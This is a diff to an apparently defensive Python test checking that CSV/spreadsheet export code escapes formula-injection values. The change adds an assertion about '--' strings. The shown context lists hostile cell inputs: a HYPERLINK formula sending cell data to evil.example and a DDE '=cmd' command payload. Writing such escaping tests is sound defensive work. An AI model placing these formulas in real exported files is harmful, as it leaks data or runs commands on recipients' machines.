@@ -188,6 +188,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc
 def test_export_writers_neutralise_formulas_whatever_the_input_rules() -> None:
     assert [as_text(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
     assert as_text("王伟") == "王伟" and as_text(85) == "85"
+    assert as_text("--") == "--" and as_text("--1") == "'--1"  # the printed "no 工种" stays as printed
     csv_text = rows_as_csv(["姓名", "x"], [[v, "ok"] for v in FORMULAS]).decode("utf-8-sig")
     assert [row[0] for row in csv.reader(io.StringIO(csv_text, newline=""))][1:] == [
         "'" + v for v in FORMULAS
